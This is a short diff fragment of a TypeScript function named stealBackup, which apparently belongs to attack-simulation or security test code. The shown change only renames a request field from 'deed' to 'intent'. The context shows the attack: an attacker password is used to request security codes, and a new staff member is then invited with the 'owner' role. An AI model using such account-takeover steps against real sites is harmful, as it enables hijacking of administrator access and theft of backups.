@@ -16,7 +16,7 @@ export async function stealBackup({ url, db, cookies }: AttackedSite): Promise<F
 	};
 	const codes = await post('/desk/security/codes', { step: 'begin', password: attackPassword });
 	const invited = await post('/desk/staff', {
-		deed: 'invite',
+		intent: 'invite',
 		name: 'Somebody New',
 		email: 'somebody-new@example.com',
 		role: 'owner',
